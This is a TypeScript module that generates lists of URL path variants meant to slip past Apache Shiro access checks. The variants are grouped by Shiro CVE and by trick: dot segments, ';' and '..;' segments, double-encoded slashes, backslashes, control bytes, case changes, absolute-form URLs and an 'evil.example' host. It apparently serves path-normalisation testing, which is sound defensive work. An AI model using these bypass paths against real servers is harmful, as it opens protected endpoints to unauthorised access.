// Request targets by which callers have reached protected paths of Java servers behind Apache Shiro. Each stands for the
// path /WORD in the eyes of some program; other programs read it in another way.

/** What is known under one number, or is of one kind. */
export interface PathTrick {
  /** CVE, pull request or class of attack. */
  readonly name: string;
  readonly targets: readonly string[];
}

/** The tricks against the path `/word`; the word may have several segments. */
export function pathTricks(word: string): readonly PathTrick[] {
  const capital = `${word[0]?.toUpperCase()}${word.slice(1)}`;
  const first = `%${word.charCodeAt(0).toString(16)}`;
  const firstCapital = `%${capital.charCodeAt(0).toString(16)}`;
  const rest = word.slice(1);
  return [
    { name: "plain", targets: [`/${word}`, `/${word}?x=1`, `/API/${word}`, `/API/API/${word}`, `/%41PI/${word}`] },
    { name: "CVE-2010-3863", targets: [`/./${word}`, `//${word}`, `/x/../${word}`, `/${word}/./`, `///${word}//`] },
    { name: "CVE-2016-6802", targets: [`/x/../API/${word}`, `/./API/${word}`, `/API/../API/${word}`] },
    { name: "CVE-2020-1957", targets: [`/${word}/`, `/x;/../${word}`, `/fdsf;/../${word}`, `/x/..;/${word}`] },
    {
      name: "CVE-2020-11989",
      targets: [
        `/;/API/${word}`,
        `/API/;/${word}`,
        `/;/${word}`,
        `/;a=b/${word}`,
        `/${word}%25%32%66`,
        `/${word}%252f`,
        `/x/%252e%252e/${word}`,
      ],
    },
    {
      name: "CVE-2020-13933",
      targets: [`/${word}/%3bname`, `/${word}%3b`, `/${word}%253b`, `/${word};name`, `/${word};`, `/${word};/x`],
    },
    { name: "CVE-2020-17510", targets: [`/${word}/%2e`, `/%2e/${word}`, `/${word}/%2e%2e`, `/x/%2e%2e/${word}`] },
    {
      name: "CVE-2020-17523",
      targets: [`/${word}/%20`, `/${word}/%20/`, `/${word}%20`, `/%20/${word}`, `/%20${word}`],
    },
    { name: "CVE-2021-41303", targets: [`/${word}/`, `/${word}//`, `/${word}/x/`] },
    { name: "CVE-2022-32532", targets: [`/${word}/a%0ab`, `/${word}%0d%0a`, `/%0a${word}`, `/${word}/%0a`] },
    { name: "CVE-2023-22602", targets: [`/${word}.json`, `/${word}.xml`, `/${word}/.json`, `/${word}.`] },
    { name: "CVE-2023-34478", targets: [`/x/../${word}`, `/${word}/../x`, `/${word}/x/../../y`, `/x/../${word}/x`] },
    {
      name: "CVE-2023-46749",
      targets: [
        `/public;/../${word}`,
        `/public/..;/${word}`,
        `/public/%2e%2e;/${word}`,
        `/public/%2e%2e%3b/${word}`,
        `/public/..;x=y/${word}`,
      ],
    },
    { name: "CVE-2023-46750", targets: [`//evil.example/${word}`, `//evil.example/../${word}`] },
    {
      name: "CVE-2026-23903",
      targets: [
        `/${capital}`,
        `/${word.toUpperCase()}`,
        `/${firstCapital}${rest}`,
        `/${first}${rest}`,
        `/API/${capital}`,
        `/api/${word}`,
        `/Api/${capital}`,
      ],
    },
    { name: "#2837", targets: [`/../${word}`, `/%2e%2e/${word}`, `/x/../../${word}`, `/..`, `/../..`] },
    {
      name: "a backslash",
      targets: [`/\\${word}`, `/${word}\\`, `/%5c${word}`, `/x%5c..%5c${word}`, `\\${word}`, `/x\\..\\${word}`],
    },
    {
      name: "beyond ASCII, and controls",
      targets: [
        `/${word}%c0%ae`,
        `/%c0%ae/${word}`,
        `/${word}%ff`,
        `/${word}%e2%80%ae`,
        `/${word}%7f`,
        `/${word}%09`,
        `/${word}%00`,
        `/${word}%00.json`,
        `/${word}%zz`,
        `/${word}%`,
        `/${word}%u002f`,
        `/%ef%bc%8f${word}`,
        `/${word}%c2%a0`,
        `/${word}/%ef%bb%bf`,
      ],
    },
    {
      name: "an encoded slash",
      targets: [
        `/${word}%2fx`,
        `/x%2f${word}`,
        `/%2f${word}`,
        `/%2F${word}`,
        `/x/..%2f${word}`,
        `/API%2f${word}`,
        `/${word}%2f`,
        `/${word}%2f..`,
      ],
    },
    {
      name: "the absolute form",
      targets: [
        `http://h/${word}`,
        `HTTP://H/${word}`,
        `//h/${word}`,
        `http://h//${word}/`,
        `http:/${word}`,
        `http:${word}`,
        `file:///${word}`,
        `http://h/x/../${word}`,
        `http://h\\@x/${word}`,
        `http://h?/${word}`,
        `http://h#/${word}`,
      ],
    },
    { name: "no path", targets: ["*", word, "", "?", `?/${word}`, `#/${word}`, `/#/${word}`, `h:80`] },
  ];
}
